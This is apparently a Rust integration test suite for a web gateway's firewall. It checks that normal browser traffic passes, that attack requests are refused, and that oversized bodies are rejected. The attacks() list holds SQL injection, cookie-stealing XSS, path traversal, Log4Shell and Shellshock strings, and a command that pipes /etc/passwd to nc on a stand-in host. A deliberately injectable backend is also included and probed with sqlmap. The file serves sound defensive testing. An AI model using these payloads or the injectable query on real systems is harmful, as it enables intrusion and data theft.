//! The firewall of an installation as it is after the first start: blocking, with the Core
//! Rule Set at paranoia level 1. People pass, attacks do not, and sqlmap finds nothing.
//!
//! Every other test of the shared installations is ordinary traffic too: they run behind the
//! same firewall, and none expects a block.

use std::fs;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use marquis_testkit::free_port;
use marquis_tests::api::{PASSWORD, send};
use marquis_tests::database::EmptyDatabase;
use marquis_tests::{Api, Installation, Settings};
use reqwest::{Method, RequestBuilder};
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio_postgres::NoTls;

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// What a browser sends with every request.
fn as_browser(request: RequestBuilder) -> RequestBuilder {
    request
        .header("user-agent", BROWSER)
        .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .header("accept-language", "ru-RU,ru;q=0.9,en-US;q=0.7,en;q=0.3")
        .header("accept-encoding", "gzip, deflate, br, zstd")
        .header("referer", "https://localhost/people?search=%D0%98%D0%B2%D0%B0%D0%BD")
        .header("cookie", "theme=dark; lang=ru; _ga=GA1.1.123456789.1700000000")
        .header("sec-fetch-site", "same-origin")
        .header("sec-fetch-mode", "cors")
        .header("upgrade-insecure-requests", "1")
}

/// An installation with a route `/form/*` to a server of this test.
async fn installed(backend: u16) -> Installation {
    let toml = format!(
        "[gateway.upstreams.form]\nservers = [\"127.0.0.1:{backend}\"]\nhealth = {{ path = \"\" }}\n\
         [[gateway.routes]]\npath = \"/form/*\"\nservice = \"form\"\nauth = \"none\"\nrate_limits = []\n\
         [[gateway.routes]]\npath = \"/open/*\"\nservice = \"form\"\nauth = \"none\"\nrate_limits = []\n\
         strip = \"/open\"\nprefix = \"/form\"\nwaf = \"off\"\n\
         [[gateway.routes]]\npath = \"/socket.io/*\"\nservice = \"form\"\nauth = \"none\"\nrate_limits = []\n"
    );
    Installation::start_with(Settings { toml, ..Settings::default() }).await
}

#[tokio::test]
async fn people_pass_and_attacks_do_not() {
    let backend = Form::start().await;
    let installation = installed(backend.port).await;
    let api = installation.api();
    ordinary(&api).await;
    attacks(&api).await;
}

/// Not one of these may be blocked.
async fn ordinary(api: &Api) {
    let account = api.register().await;
    let request = |method: Method, path: &str| {
        as_browser(api.request(method, path)).bearer_auth(&account.access)
    };
    let get = |path: &str| request(Method::GET, path);
    let texts = [
        "Привет, как дела? Всё хорошо; завтра в 10:00 — встреча (у метро).",
        "日本語のテキスト、そして絵文字 😀🎉👨‍👩‍👧‍👦",
        "It's Tom & Jerry's \"best\" deal: 50% off - select 2 or more, and pay 10 € less!",
        "Order #1234: 2 x cable (USB-C), 1 x mouse; deliver to 12/4 Main St., apt. 5",
        "https://example.org/page?id=5&lang=de#top",
    ];
    let mut answers = vec![
        ("health", send(get("/health")).await),
        ("jwks", send(get("/.well-known/jwks.json")).await),
        ("docs", send(get("/docs/auth/")).await),
        ("docs of payments", send(get("/docs/payments/openapi.json")).await),
        ("me", send(get("/api/v1/auth/me")).await),
        ("me by POST", send(request(Method::POST, "/api/v1/auth/me")).await),
        ("sessions", send(get("/api/v1/auth/sessions")).await),
        ("payments", send(get("/api/v1/payments?limit=20&offset=0")).await),
        ("search", send(get("/form/?search=%D0%98%D0%B2%D0%B0%D0%BD+O%27Neill&limit=20")).await),
        ("emoji", send(get("/form/?q=%F0%9F%98%80%20caf%C3%A9")).await),
        (
            "preflight",
            send(
                request(Method::OPTIONS, "/api/v1/payments")
                    .header("origin", "https://app.example.org")
                    .header("access-control-request-method", "POST"),
            )
            .await,
        ),
    ];
    for text in texts {
        let payment = json!({
            "amount": 1_250, "currency": "EUR", "description": text,
            "metadata": {"profile": "home", "note": text, "env": "prod", "passwd": "no"},
        });
        let key = uuid_like(text);
        let paid = request(Method::POST, "/api/v1/payments").header("idempotency-key", key);
        answers.push((text, send(paid.json(&payment)).await));
        let form = request(Method::POST, "/form/").form(&[("comment", text), ("page", "2")]);
        answers.push((text, send(form).await));
        let profile = json!({"profile": {"about": text, "tags": ["a", "b"], "age": 30}});
        answers.push((text, send(request(Method::POST, "/form/").json(&profile)).await));
        for method in [Method::PUT, Method::PATCH] {
            let edited = request(method, "/form/12").json(&json!({"username": text}));
            answers.push((text, send(edited).await));
        }
    }
    let picture: Vec<u8> = (0..200_000_u32).map(|at| (at * 31 % 251) as u8).collect();
    let mut upload = Vec::new();
    upload.extend_from_slice(
        "------b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nОтпуск 2026 😀\r\n\
         ------b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo 1.jpg\"\r\n\
         Content-Type: image/jpeg\r\n\r\n"
            .as_bytes(),
    );
    upload.extend_from_slice(&picture);
    upload.extend_from_slice(b"\r\n------b--\r\n");
    let uploaded = request(Method::POST, "/form/upload")
        .header("content-type", "multipart/form-data; boundary=----b")
        .body(upload);
    answers.push(("upload", send(uploaded).await));
    answers.push(("delete", send(request(Method::DELETE, "/form/12")).await));
    let polling = "/socket.io/?EIO=4&transport=polling&t=P9x0abc";
    answers.push(("polling", send(get(polling)).await));
    let packet =
        "42[\"message:send\",{\"content\":\"SELECT * FROM users WHERE name='Иван' -- <b>\"}]";
    let posted = request(Method::POST, &format!("{polling}&sid=AbCd_12-3"))
        .header("content-type", "text/plain;charset=UTF-8")
        .body(packet);
    answers.push(("polling, posted", send(posted).await));
    for (what, answer) in &answers {
        assert!(
            (200..300).contains(&answer.status) || (*what == "preflight" && answer.status < 500),
            "{what}: {answer:?}"
        );
        assert_ne!(answer.status, 403, "{what}: {answer:?}");
    }
    // A password may look like anything.
    let odd = json!({"email": "nobody@example.org", "password": "' OR 1=1 --<script>alert(1)"});
    assert_eq!(api.post("/api/v1/auth/login", &odd).await.status, 401);
    assert_eq!(api.login(&account.email, PASSWORD).await.status, 200);
}

/// Every one of these must be.
async fn attacks(api: &Api) {
    let form = |path: &'static str, body: &'static str| {
        as_browser(api.request(Method::POST, path))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
    };
    let get = |path: &str| as_browser(api.request(Method::GET, path));
    let json =
        |body: serde_json::Value| as_browser(api.request(Method::POST, "/form/")).json(&body);
    let refused = [
        form("/api/users", "username=admin' OR '1'='1"),
        form("/form/", "q=<script>document.location='//evil/'+document.cookie</script>"),
        form("/form/", "file=..%2f..%2f..%2fetc%2fpasswd"),
        json(json!({"name": "x'; DROP TABLE users; --"})),
        json(json!({"a": {"b": ["<img src=x onerror=alert(1)>"]}})),
        json(json!({"q": "${jndi:ldap://evil.example/a}"})),
        get("/form/?id=1%20UNION%20SELECT%20password%20FROM%20users"),
        get("/form/?cmd=%3Bcat%20/etc/passwd%7Cnc%20evil%2080"),
        get("/form/?page=php://input"),
        get("/form/..%2f..%2f.git/config"),
        get("/nothing/here?x=%3Csvg/onload=alert(1)%3E"),
        get("/api/admin/metrics"),
        get("/api/v1/admin"),
        as_browser(api.request(Method::GET, "/health")).header("user-agent", "Nikto/2.5"),
        as_browser(api.request(Method::GET, "/health")).header("x-api", "() { :; }; /bin/sh -c id"),
    ];
    for (index, request) in refused.into_iter().enumerate() {
        let answer = send(request).await;
        answer.expect_problem(403);
        assert!(answer.text.contains("traceId"), "attack {index}: {answer:?}");
    }
}

#[tokio::test]
async fn huge_bodies_cost_little_and_are_refused() {
    let backend = Form::start().await;
    let installation = installed(backend.port).await;
    let api = installation.api();
    let post = |kind: &str, body: Vec<u8>| {
        api.request(Method::POST, "/form/").header("content-type", kind).body(body)
    };
    let deep = [b"[".repeat(10_000), b"]".repeat(10_000)].concat();
    let many = (0..100_000).map(|at| format!("a{at}=1&")).collect::<String>();
    let string = [&b"\""[..], &b"x".repeat(10_000_000), b"\""].concat();
    let before = resident(&installation);
    for round in 0..3 {
        for (what, request, statuses) in [
            ("12 MB of octets", post("application/octet-stream", vec![0; 12_000_000]), &[413][..]),
            ("a string of 10 MB", post("application/json", string.clone()), &[413]),
            (
                "100,000 arguments",
                post("application/x-www-form-urlencoded", many.clone().into()),
                &[400, 413],
            ),
            ("10,000 levels", post("application/json", deep.clone()), &[400]),
        ] {
            let started = std::time::Instant::now();
            // The answer may come, and the connection close, before all of the body is sent.
            if let Ok(answer) = request.send().await {
                assert!(statuses.contains(&answer.status().as_u16()), "{what}: {answer:?}");
            }
            assert!(started.elapsed() < Duration::from_secs(5), "{what}, round {round}");
        }
    }
    let grown = resident(&installation).saturating_sub(before);
    assert!(grown < 96 * 1024, "{grown} KiB more than before");
    assert_eq!(api.get("/health").await.status, 200);
}

fn resident(installation: &Installation) -> u64 {
    let status = fs::read_to_string(format!("/proc/{}/status", installation.process().pid()));
    let status = status.expect("a running process");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).expect("VmRSS");
    line.trim().trim_end_matches(" kB").trim().parse().expect("a number")
}

#[tokio::test]
async fn sqlmap_finds_nothing_through_it() {
    assert!(
        Path::new("/usr/bin/sqlmap").exists(),
        "the package sqlmap is not installed; ./test.sh installs it"
    );
    let backend = Form::start().await;
    let installation = installed(backend.port).await;
    // The form is vulnerable indeed: around the firewall sqlmap sees it.
    let open = sqlmap(&installation, "/open/?id=1").await;
    assert!(open.contains("injection point(s)") && open.contains("Parameter: id"), "{open}");
    let guarded = sqlmap(&installation, "/form/?id=1").await;
    assert!(!guarded.contains("Parameter: id"), "{guarded}");
    assert!(
        guarded.contains("do not appear to be injectable") || guarded.contains("403"),
        "{guarded}"
    );
}

async fn sqlmap(installation: &Installation, path: &str) -> String {
    let output = tempdir(installation, "sqlmap");
    let url = format!("https://127.0.0.1:{}{path}", installation.https_port());
    let run = tokio::process::Command::new("/usr/bin/sqlmap")
        .args(["-u", &url, "--batch", "--flush-session", "--technique=BEU", "--dbms=PostgreSQL"])
        .args(["--user-agent", BROWSER, "--timeout=10", "--retries=0", "--disable-coloring"])
        .arg("--output-dir")
        .arg(&output)
        .env("HOME", &output)
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .output();
    let ended = tokio::time::timeout(Duration::from_secs(300), run).await.expect("in time");
    let ended = ended.expect("sqlmap runs");
    String::from_utf8_lossy(&ended.stdout).into_owned()
}

fn tempdir(installation: &Installation, name: &str) -> std::path::PathBuf {
    let path = installation.data_dir().join(format!("{name}-{}", free_port()));
    fs::create_dir_all(&path).expect("a directory");
    path
}

/// An idempotency key that differs by text.
fn uuid_like(text: &str) -> String {
    format!("key-{}-{}", text.len(), text.chars().count())
}

/// A web page of the bad old days: what stands in `id` becomes part of a statement.
struct Form {
    port: u16,
    _database: EmptyDatabase,
}

impl Form {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("binds");
        let port = listener.local_addr().expect("address").port();
        let database = EmptyDatabase::create("form").await;
        let url = database.url();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                tokio::spawn(serve(stream, url.clone()));
            }
        });
        Self { port, _database: database }
    }
}

async fn serve(mut stream: TcpStream, database: String) {
    let (client, connection) = tokio_postgres::connect(&database, NoTls).await.expect("PostgreSQL");
    tokio::spawn(connection);
    let mut buffer = Vec::new();
    let mut part = [0; 64 * 1024];
    loop {
        let Some(end) = buffer.windows(4).position(|four| four == b"\r\n\r\n").map(|at| at + 4)
        else {
            match stream.read(&mut part).await {
                Ok(count) if count > 0 => buffer.extend_from_slice(&part[..count]),
                _ => return,
            }
            continue;
        };
        let head = String::from_utf8_lossy(&buffer[..end]).into_owned();
        let length = head.lines().find_map(|line| {
            line.to_ascii_lowercase().strip_prefix("content-length:")?.trim().parse::<usize>().ok()
        });
        let whole = end + length.unwrap_or(0);
        while buffer.len() < whole {
            match stream.read(&mut part).await {
                Ok(count) if count > 0 => buffer.extend_from_slice(&part[..count]),
                _ => return,
            }
        }
        buffer.drain(..whole);
        let target = head.split(' ').nth(1).unwrap_or("/").to_owned();
        let id = target
            .split_once("?id=")
            .map(|(_, rest)| decoded(rest.split('&').next().unwrap_or_default()));
        let (status, body) = match id {
            None => ("200 OK", "ok".to_owned()),
            Some(id) => {
                let statement =
                    format!("SELECT 'Item ' || g FROM generate_series(1, 9) g WHERE g = {id}");
                match client.simple_query(&statement).await {
                    Ok(rows) => {
                        let found: Vec<String> = rows
                            .iter()
                            .filter_map(|row| match row {
                                tokio_postgres::SimpleQueryMessage::Row(row) => {
                                    row.get(0).map(str::to_owned)
                                }
                                _ => None,
                            })
                            .collect();
                        ("200 OK", format!("<html><body>Found: {}</body></html>", found.join(", ")))
                    }
                    Err(error) => {
                        let shown =
                            error.as_db_error().map_or_else(String::new, ToString::to_string);
                        (
                            "500 Internal Server Error",
                            format!("<html>PostgreSQL query failed: {shown}</html>"),
                        )
                    }
                }
            }
        };
        let answer = format!(
            "HTTP/1.1 {status}\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        if stream.write_all(answer.as_bytes()).await.is_err() {
            return;
        }
    }
}

fn decoded(text: &str) -> String {
    let bytes = text.as_bytes();
    let (mut out, mut at) = (Vec::new(), 0);
    while at < bytes.len() {
        let pair = text.get(at + 1..at + 3).filter(|_| bytes[at] == b'%');
        match pair.and_then(|pair| u8::from_str_radix(pair, 16).ok()) {
            Some(byte) => {
                out.push(byte);
                at += 3;
            }
            None => {
                out.push(if bytes[at] == b'+' { b' ' } else { bytes[at] });
                at += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}
